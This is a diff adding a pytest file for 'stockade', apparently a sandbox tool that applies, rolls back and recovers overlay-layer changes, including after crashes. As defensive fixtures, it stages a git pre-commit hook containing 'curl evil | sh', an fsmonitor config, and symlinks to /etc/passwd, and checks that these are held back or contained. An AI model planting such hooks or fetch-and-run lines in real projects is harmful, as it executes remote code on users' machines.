@@ -1,0 +1,338 @@
+"""apply / rollback / discard / recovery, including crashes at every step and hostile layers."""
+
+from __future__ import annotations
+
+import os
+import stat
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from stockade.changes import apply as apply_mod
+from stockade.changes.apply import list_applies, recover_pending, rollback
+from stockade.changes.scan import scan
+from stockade.errors import UsageError
+from tests.conftest import ROOT
+from tests.unit.test_changes_support import Builder, overlay_shell, tree_snapshot
+
+
+def _changed(tmp_path: Path) -> Builder:
+    b = Builder(tmp_path, {"keep": "k\n", "mod": "old\n", "gone": "g\n", "d/x": "x\n", "tree/a": "a\n",
+                           "tree/s/b": "b\n", "exe": "#!/bin/sh\n"})
+    b.new_session()
+    overlay_shell(b.session, "echo new > mod; rm gone; echo n > d/new; rm -r tree; echo added > add; "
+                  "chmod 755 exe; ln -s keep lnk; mkdir -p deep/er && echo z > deep/er/z")
+    return b
+
+
+def test_apply_all_then_nothing_left_and_rollback_restores_bytes_and_modes(tmp_path: Path, state_dir: Path) -> None:
+    b = _changed(tmp_path)
+    before = tree_snapshot(b.project)
+    cs = scan(b.session)
+    expected_view = {c.path for c in cs.changes}
+    res = cs.apply()
+    assert set(res.applied) == expected_view
+    assert scan(b.session).changes == ()
+    assert (b.project / "mod").read_text() == "new\n"
+    assert os.readlink(b.project / "lnk") == "keep"
+    assert not (b.project / "tree").exists()
+    # applied entries left the upper layer
+    assert not (b.upper / "mod").exists() and not (b.upper / "add").exists()
+    with pytest.raises(UsageError, match="nothing to apply"):
+        scan(b.session).apply()
+    inode_before = os.stat(b.project / "keep").st_ino
+    rollback(res.apply_id)
+    assert tree_snapshot(b.project) == before
+    assert os.stat(b.project / "keep").st_ino == inode_before
+    # the change set is back in the session
+    assert {c.path for c in scan(b.session).changes} == expected_view
+    with pytest.raises(UsageError, match="already rolled back"):
+        rollback(res.apply_id)
+
+
+def test_partial_apply_pathspec_and_exclude(tmp_path: Path, state_dir: Path) -> None:
+    b = _changed(tmp_path)
+    cs = scan(b.session)
+    res = cs.apply(["deep", "mod", "tree"], exclude=["tree/s"])
+    assert "deep/er/z" in res.applied and "mod" in res.applied
+    left = {c.path for c in scan(b.session).changes}
+    assert "mod" not in left and "deep/er/z" not in left
+    assert {"gone", "add", "d/new", "exe", "lnk", "tree/s", "tree/s/b"} <= left
+    assert not (b.project / "tree" / "a").exists() and (b.project / "tree" / "s" / "b").exists()
+    # the rest applies later, and then nothing is left
+    scan(b.session).apply()
+    assert scan(b.session).changes == ()
+    assert not (b.project / "tree").exists()
+
+
+def test_pathspec_matching_nothing_is_usage_error_and_changes_nothing(tmp_path: Path, state_dir: Path) -> None:
+    b = _changed(tmp_path)
+    before = tree_snapshot(b.project)
+    with pytest.raises(UsageError, match="did not match"):
+        scan(b.session).apply(["nope"])
+    assert tree_snapshot(b.project) == before
+
+
+def test_dry_run_changes_nothing(tmp_path: Path, state_dir: Path) -> None:
+    b = _changed(tmp_path)
+    before = tree_snapshot(b.project)
+    res = scan(b.session).apply(dry_run=True)
+    assert res.dry_run and res.operations and res.apply_id is None
+    assert tree_snapshot(b.project) == before
+    assert list_applies() == []
+
+
+def test_conflicts_refused_then_forced(tmp_path: Path, state_dir: Path) -> None:
+    b = _changed(tmp_path)
+    (b.project / "mod").write_text("edited on the host\n")
+    before = tree_snapshot(b.project)
+    with pytest.raises(UsageError, match="conflict.*mod"):
+        scan(b.session).apply()
+    assert tree_snapshot(b.project) == before
+    scan(b.session).apply(force=True)
+    assert (b.project / "mod").read_text() == "new\n"
+
+
+def test_second_apply_of_same_path_is_not_a_conflict(tmp_path: Path, state_dir: Path) -> None:
+    b = _changed(tmp_path)
+    scan(b.session).apply(["mod"])
+    overlay_shell(b.session, "echo newer > mod")
+    scan(b.session).apply(["mod"])
+    assert (b.project / "mod").read_text() == "newer\n"
+
+
+def test_held_back_vectors_need_explicit_names(tmp_path: Path, state_dir: Path) -> None:
+    b = Builder(tmp_path, {".git/config": "[core]\n", "ok": "o\n"})
+    b.new_session()
+    b.up(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0o755)
+    b.up(".git/config", "[core]\n\tfsmonitor = evil\n")
+    b.up(".envrc", "evil\n")
+    b.up(".vscode/tasks.json", "{}\n")
+    b.up("src/.bashrc", "evil\n")
+    b.up("ok", "changed\n")
+    res = scan(b.session).apply()
+    assert res.applied == ("ok",)
+    assert set(res.held_back) == {".git/hooks/pre-commit", ".git/config", ".envrc", ".vscode/tasks.json",
+                                  "src/.bashrc", ".git/hooks", ".vscode", "src"}  # their new dirs too
+    assert not (b.project / "src").exists()
+    assert not (b.project / ".git" / "hooks").exists()
+    with pytest.raises(UsageError, match="held back"):
+        scan(b.session).apply()
+    with pytest.raises(UsageError, match="held back"):
+        scan(b.session).apply(["*"])  # a glob does not name them
+    res = scan(b.session).apply([".git/hooks/pre-commit"])
+    assert res.applied == (".git/hooks", ".git/hooks/pre-commit") or ".git/hooks/pre-commit" in res.applied
+    assert (b.project / ".git" / "hooks" / "pre-commit").exists()
+
+
+def test_whiteout_over_git_is_held_back(tmp_path: Path, state_dir: Path) -> None:
+    b = Builder(tmp_path, {".git/HEAD": "ref\n", "a": "a\n"})
+    b.new_session()
+    b.whiteout(".git")
+    b.up("a", "b\n")
+    res = scan(b.session).apply()
+    assert ".git" in res.held_back and (b.project / ".git" / "HEAD").exists()
+
+
+def test_target_directory_became_a_file(tmp_path: Path, state_dir: Path) -> None:
+    b = Builder(tmp_path, {"d/x": "x\n"})
+    b.new_session()
+    overlay_shell(b.session, "echo n > d/new")
+    import shutil
+
+    shutil.rmtree(b.project / "d")
+    (b.project / "d").write_text("a file now\n")
+    before = tree_snapshot(b.project)
+    with pytest.raises(UsageError) as ei:
+        scan(b.session).apply(["d/new"])
+    assert "\n" not in str(ei.value)
+    assert tree_snapshot(b.project) == before
+
+
+def test_refused_entries_never_applied(tmp_path: Path, state_dir: Path) -> None:
+    b = Builder(tmp_path)
+    os.mkfifo(b.upper / "fifo")
+    with pytest.raises(UsageError, match="refused"):
+        scan(b.session).apply()
+    assert not (b.project / "fifo").exists()
+
+
+# ---- hostile upper layers -----------------------------------------------------------------------
+
+
+def test_symlink_swapped_for_directory_does_not_escape(tmp_path: Path, state_dir: Path) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "victim").write_text("safe\n")
+    b = Builder(tmp_path, {"d/victim": "project\n"})
+    b.new_session()
+    # lower frozen layer writes d/victim; the upper replaces d by a symlink pointing outside
+    l1 = b.session.layers_dir / "001-s"
+    l1.mkdir()
+    b.up("d/victim", "pwned\n", layer=l1)
+    b.symlink("d", str(outside))
+    snap_out = tree_snapshot(outside)
+    cs = scan(b.session)
+    cs.apply(force=True)
+    assert tree_snapshot(outside) == snap_out
+    assert os.readlink(b.project / "d") == str(outside)  # created as a symlink, never followed
+
+
+def test_host_symlink_on_the_way_is_refused(tmp_path: Path, state_dir: Path) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    b = Builder(tmp_path, {"d/x": "x"})
+    b.new_session()
+    b.up("d/evil", "pwned\n")
+    # the host's d is swapped for a symlink after the scan, before the apply runs
+    cs = scan(b.session)
+    import shutil
+
+    shutil.rmtree(b.project / "d")
+    os.symlink(str(outside), b.project / "d")
+    with pytest.raises(UsageError):
+        cs.apply(["d/evil"], force=True)
+    assert list(outside.iterdir()) == []
+
+
+def test_absolute_symlinks_and_dotdot_targets_stay_symlinks(tmp_path: Path, state_dir: Path) -> None:
+    b = Builder(tmp_path)
+    b.symlink("abs", "/etc/passwd")
+    b.symlink("up", "../../../../etc")
+    scan(b.session).apply()
+    assert os.readlink(b.project / "abs") == "/etc/passwd"
+    assert os.readlink(b.project / "up") == "../../../../etc"
+
+
+def test_fallback_walk_without_openat2(tmp_path: Path, state_dir: Path) -> None:
+    from stockade.changes import _safefs
+
+    (tmp_path / "fb").mkdir()
+    _safefs.force_fallback(True)
+    try:
+        test_host_symlink_on_the_way_is_refused(tmp_path / "fb", state_dir)
+    finally:
+        _safefs.force_fallback(False)
+
+
+# ---- discard ------------------------------------------------------------------------------------------
+
+
+def test_discard_paths_and_all(tmp_path: Path, state_dir: Path) -> None:
+    b = _changed(tmp_path)
+    before = tree_snapshot(b.project)
+    scan(b.session).discard(["mod", "tree"])
+    left = {c.path for c in scan(b.session).changes}
+    assert "mod" not in left and not any(p.startswith("tree") for p in left)
+    assert "gone" in left
+    scan(b.session).discard()
+    assert scan(b.session).changes == ()
+    assert tree_snapshot(b.project) == before
+
+
+def test_discard_under_opaque_dir_keeps_the_other_deletions(tmp_path: Path, state_dir: Path) -> None:
+    b = Builder(tmp_path, {"d/a": "a", "d/b": "b", "d/c": "c"})
+    b.new_session()
+    overlay_shell(b.session, "rm -r d; mkdir d; echo new > d/n")
+    scan(b.session).discard(["d/a"])
+    assert {c.path: c.letter for c in scan(b.session).changes} == {"d/b": "D", "d/c": "D", "d/n": "A"}
+    overlay_shell(b.session, "cat d/a > /dev/null && test ! -e d/b")  # the real overlay agrees
+
+
+def test_partial_apply_under_opaque_dir_real_overlay_agrees(tmp_path: Path, state_dir: Path) -> None:
+    b = Builder(tmp_path, {"d/a": "a", "d/b": "b"})
+    b.new_session()
+    overlay_shell(b.session, "rm -r d; mkdir d; echo new > d/n; echo A > d/a")
+    scan(b.session).apply(["d/n"])
+    assert {c.path: c.letter for c in scan(b.session).changes} == {"d/a": "M", "d/b": "D"}
+    overlay_shell(b.session, 'test "$(cat d/a)" = A && test ! -e d/b && test "$(cat d/n)" = new')
+
+
+# ---- crashes -------------------------------------------------------------------------------------------
+
+_CHILD = """
+import sys
+from stockade.session import store
+from stockade.changes.scan import scan
+scan(store.open_session(sys.argv[1])).apply()
+"""
+
+
+def _apply_in_child(b: Builder, crash_after: int | None) -> int:
+    env = {**os.environ, "PYTHONPATH": f"{ROOT / 'src'}:{ROOT}"}
+    if crash_after is not None:
+        env["STOCKADE_TEST_CRASH_AFTER"] = str(crash_after)
+    r = subprocess.run([sys.executable, "-c", _CHILD, b.session.id], env=env, capture_output=True)
+    return r.returncode
+
+
+def test_sigkill_at_every_step_recovers_to_wholly_old_or_wholly_new(tmp_path: Path, state_dir: Path) -> None:
+    probe = _changed(tmp_path / "probe")
+    assert _apply_in_child(probe, None) == 0
+    n = 1
+    seen_kill = seen_done = 0
+    while True:
+        b = _changed(tmp_path / f"k{n}")
+        old = tree_snapshot(b.project)
+        view = {c.path for c in scan(b.session).changes}
+        rc = _apply_in_child(b, n)
+        if rc == 0:
+            seen_done += 1
+            assert recover_pending() == []
+            break
+        assert rc == -9, rc
+        seen_kill += 1
+        # per-file atomicity right after the crash: every file is old or new content, no temp files
+        leftovers = [p for p in b.project.rglob("*") if ".stockade-" in p.name]
+        msgs = recover_pending()
+        assert msgs, "a killed apply must leave something to recover"
+        assert not [p for p in b.project.rglob("*") if ".stockade-" in p.name]
+        now = tree_snapshot(b.project)
+        left = {c.path for c in scan(b.session).changes}
+        if "finished" in msgs[0]:
+            assert left == set(), (n, left)
+            assert (b.project / "mod").read_text() == "new\n"
+        else:
+            assert now == old, (n, msgs)
+            assert left == view, (n, msgs)
+        del leftovers
+        n += 1
+        assert n < 200
+    assert seen_kill > 10 and seen_done == 1
+
+
+def test_recover_pending_is_cheap_and_empty_when_nothing_pending(state_dir: Path) -> None:
+    assert recover_pending() == []
+    assert not (apply_mod.pending_dir()).exists() or not os.listdir(apply_mod.pending_dir())
+
+
+def test_rollback_refuses_when_applied_file_changed_since(tmp_path: Path, state_dir: Path) -> None:
+    b = _changed(tmp_path)
+    res = scan(b.session).apply()
+    (b.project / "mod").write_text("user edited after apply\n")
+    with pytest.raises(UsageError, match="changed since"):
+        rollback(res.apply_id)
+    assert (b.project / "mod").read_text() == "user edited after apply\n"
+    rollback(res.apply_id, force=True)
+    assert (b.project / "mod").read_text() == "old\n"
+
+
+def test_rollback_of_unknown_apply(state_dir: Path) -> None:
+    with pytest.raises(UsageError, match="no apply"):
+        rollback("nope")
+    with pytest.raises(UsageError, match="no apply"):
+        rollback(None)
+
+
+def test_mode_bits_preserved_exactly(tmp_path: Path, state_dir: Path) -> None:
+    b = Builder(tmp_path, {"f": "f"})
+    (b.project / "f").chmod(0o640)
+    b.new_session()
+    b.up("f", "g", 0o4750 if os.geteuid() == 0 else 0o750)
+    b.up("n", "n", 0o600)
+    res = scan(b.session).apply()
+    assert stat.S_IMODE(os.stat(b.project / "n").st_mode) == 0o600
+    rollback(res.apply_id)
+    assert stat.S_IMODE(os.stat(b.project / "f").st_mode) == 0o640
